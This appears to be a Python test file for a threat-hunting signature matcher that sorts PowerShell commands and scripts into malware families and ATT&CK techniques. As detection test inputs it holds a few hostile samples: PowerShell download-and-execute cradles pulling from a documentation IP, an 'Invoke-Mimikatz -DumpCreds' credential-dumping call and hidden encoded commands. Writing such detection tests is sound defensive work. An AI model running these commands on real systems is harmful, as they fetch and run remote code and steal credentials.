"""What terms match, how clauses combine, and which family wins."""

import os
import subprocess
import sys
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from app.hunting.signatures import classify, family, techniques
from app.hunting.signatures.matcher import classify as classify_with
from app.hunting.signatures.matcher import compile_rules
from app.hunting.signatures.rules import RuleSet, family_rule, technique_rules

BLOB = "SQBFAFgA" * 40


def matcher(*families, technique_conditions=None):
    """A matcher of families given as (name, priority, conditions), and of one technique."""
    rules = [
        family_rule(
            {
                "name": name,
                "description": "For a test.",
                "reference": "https://example.com/",
                "priority": priority,
                "conditions": conditions,
                "examples": ["x"],
            },
            name,
        )
        for name, priority, conditions in families
    ]
    entry = {
        "technique": "T1105",
        "name": "Ingress Tool Transfer",
        "reference": "https://attack.mitre.org/techniques/T1105/",
        "conditions": technique_conditions,
        "examples": ["x"],
    }
    found = technique_rules([entry], "techniques") if technique_conditions else []
    return compile_rules(RuleSet(tuple(rules), tuple(found)))


@pytest.mark.parametrize(
    ("term", "text", "found"),
    [
        ("Start-BitsTransfer", "sTART-bITStRANSFER", True),
        ("Add-Type -Name", "Add-Type   \n -Name", True),
        ("Add-Type -Name", "Add-Type-Name", True),
        ("net user", "netuser", False),
        ("net user", "net\tuser", True),
        ("$a=$b;", "$a = $b ;", True),
        ("f(1,2)", "f( 1 , 2 )", True),
        ("f ( 1 )", "f(1)", True),
        ("x('a')", 'x("a")', True),
        ("x('a')", "x(''a'')", True),
        ("x('a')", "x(`'a`')", True),
        ("x('a')", 'x(\\"a\\")', True),
        ("x('a')", "x(\u2018a\u2019)", True),
        ("x('a')", "x(a)", False),
        ("a.b[0]", "axb0", False),
        ({"re": r"\biex\b"}, "a;IEX $x", True),
        ({"re": r"\biex\b"}, "hiexpert", False),
        ({"re": r"\Aiex"}, "x\niex", False),
        ({"re": "k\u00e9y"}, "K\u00c9Y", True),
    ],
)
def test_term_matches_text_as_powershell_reads_it(term, text, found):
    rules = matcher(("Tool", 50, [{"script": {"all": [term]}}]))
    assert classify_with(rules, "", text).family == ("Tool" if found else "")


@pytest.mark.parametrize(
    ("text", "found"),
    [
        ("one two three", True),
        ("one two four", True),
        ("one three", False),
        ("one two", False),
        ("one two three stop", False),
        ("other", True),
    ],
)
def test_clause_needs_all_one_of_any_and_none_of_none(text, found):
    first = {"script": {"all": ["one", "two"], "any": ["three", "four"], "none": ["stop"]}}
    rules = matcher(("Tool", 50, [first, {"script": {"any": ["other"]}}]))
    assert classify_with(rules, "", text).family == ("Tool" if found else "")


def test_clause_combines_fields():
    condition = {"command_line": {"all": ["-enc"]}, "script": {"any": ["whoami", "hostname"]}}
    rules = matcher(("Tool", 50, [condition]))
    assert classify_with(rules, f"powershell -enc {BLOB}", "hostname").family == "Tool"
    assert classify_with(rules, "powershell", "hostname -enc").family == ""
    assert classify_with(rules, f"powershell -enc {BLOB}", "date").family == ""


def test_the_highest_priority_wins_then_the_first_name():
    any_script = [{"script": {"all": ["same text"]}}]
    rules = matcher(("B", 50, any_script), ("A", 50, any_script), ("C", 40, any_script))
    assert classify_with(rules, "", "same text").family == "A"
    rules = matcher(("B", 50, any_script), ("A", 50, any_script), ("C", 60, any_script))
    assert classify_with(rules, "", "same text").family == "C"


def test_what_the_script_says_comes_before_its_shellcode():
    rules = matcher(
        ("Frame", 90, [{"payloads": {"any": ["frame/"]}}]),
        ("Tool", 10, [{"script": {"all": ["tool"]}}]),
    )
    assert classify_with(rules, "", "tool", ["frame/reverse_tcp"]).family == "Tool"
    assert classify_with(rules, "", "other", ["frame/reverse_tcp"]).family == "Frame"


def test_the_command_line_is_read_as_code_too():
    line = "powershell -c \"(New-Object Net.WebClient).DownloadFile('http://192.0.2.7/a','a');start a\""
    assert family(line) == "Downloader DFSP"
    assert techniques(line) == ("T1059.001", "T1105")


@pytest.mark.parametrize(
    ("last_word", "found"),
    [
        (BLOB, "Encoded"),
        (f'"{BLOB}"', "Encoded"),
        ("QBFAFgA=", "Read"),
        (f"{BLOB}();", "Read"),
        (f"$x={BLOB}", "Read"),
        (f"http://192.0.2.7/{BLOB}", "Read"),
        (f"C:\\{BLOB}", "Read"),
    ],
)
def test_a_placeholder_stands_for_the_encoded_script_at_the_end(last_word, found):
    rules = matcher(
        ("Encoded", 50, [{"command_line": {"all": ["-enc <encoded>"]}}]),
        ("Read", 60, [{"script": {"all": ["QBFAFgA"]}}]),
    )
    assert classify_with(rules, f"powershell -enc {last_word}").family == found


@pytest.mark.parametrize("script", ["{code}\n{padding}", "{padding}\n{code}"])
def test_code_at_either_end_of_a_huge_script_is_found(script):
    text = script.format(code="Invoke-Mimikatz -DumpCreds", padding="# filler\n" * 1_000_000)
    assert family("powershell", text) == "Mimikatz"


def test_techniques_are_sorted_and_distinct():
    found = techniques("powershell -w hidden -enc SQBFAFgAIAAkAHgA", "IEX $x; whoami; whoami")
    assert found == ("T1027.010", "T1033", "T1059.001", "T1564.003")


def test_payloads_lead_to_techniques_and_family():
    found = classify("powershell", "$b = 0xfc", ["shikata_ga_nai x2", "metasploit/reverse_https"])
    assert found == ("Metasploit", ("T1059.001", "T1071.001", "T1573.002"))


def test_nothing_is_found_in_nothing():
    assert classify("") == ("", ())
    assert classify("notepad.exe report.txt") == ("", ())


def test_signatures_of_the_environment_are_used(tmp_path):
    (tmp_path / "families").mkdir()
    (tmp_path / "families" / "mine.yaml").write_text(
        "name: Mine\ndescription: Ours.\nreference: https://example.com/\npriority: 99\n"
        "conditions: [{script: {all: [Invoke-Mine]}}]\nexamples: [Invoke-Mine]\n"
    )
    code = "from app.hunting.signatures import family; print(family('', 'Invoke-Mine'))"
    run = subprocess.run(
        [sys.executable, "-c", code],
        env=os.environ | {"HUNT_SIGNATURES": str(tmp_path)},
        cwd=Path(__file__).parents[3],
        capture_output=True,
        text=True,
        check=True,
    )
    assert run.stdout == "Mine\n"


@given(st.text(), st.text(), st.lists(st.text(), max_size=3))
def test_any_text_can_be_classified(command_line, script, payloads):
    found = classify(command_line, script, payloads)
    assert list(found.techniques) == sorted(set(found.techniques))


@given(st.text(st.characters(min_codepoint=0xD800, max_codepoint=0xDFFF), min_size=1))
def test_lone_surrogates_can_be_classified(script):
    assert classify("powershell", script).techniques == ("T1059.001",)


@given(st.text(st.characters(max_codepoint=127)))
def test_case_never_matters(filler):
    script = f"IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.7/a'); {filler}"
    assert classify("powershell", script) == classify("POWERSHELL", script.swapcase())
